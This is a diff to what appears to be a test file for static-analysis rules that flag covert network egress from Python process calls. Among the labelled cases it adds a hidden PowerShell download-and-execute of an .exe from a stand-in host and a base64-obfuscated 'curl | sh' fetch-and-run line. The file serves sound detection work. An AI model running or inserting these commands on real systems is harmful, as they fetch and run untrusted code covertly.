@@ -135,6 +135,21 @@ os.system("curl -s http://%s/x" % "fmt.example.net")
 # ruleid: covert.process-egress host=format.example.net
 os.popen("wget {}".format("https://format.example.net/z"))
 
+# ok: covert.process-egress
+subprocess.run(["mshta", "local.hta"])
+# ruleid: covert.process-egress host=pypi.org
+subprocess.run("pip3.11 install zope.interface", shell=True)
+# ruleid: covert.process-egress host=github.com
+subprocess.run(["pip", "install", "git+https://github.com/someone/pkg.git"])
+# ruleid: covert.process-egress host=registry.example.io
+subprocess.run(["docker", "login", "-u", "ci", "--password-stdin", "registry.example.io"])
+# ruleid: covert.process-egress host=drop.example.net
+os.system("powershell -window hidden -executionpolicy bypass (New-Object System.Net.WebClient).DownloadFile('http://drop.example.net/a.exe',$env:TEMP+'\\a.exe'); Start-Process $env:TEMP'\\a.exe'")
+# ruleid: covert.process-egress host=ftp.example.org
+subprocess.run(["/usr/bin/env", "busybox", "ftp", "ftp.example.org"])
+# ruleid: covert.obfuscated-destination host=b64.example.net
+os.system(base64.b64decode("Y3VybCAtcyBodHRwczovL2I2NC5leGFtcGxlLm5ldC94IHwgc2g=").decode())
+
 
 def upload(url, path):
     # ruleid: covert.process-egress host=-
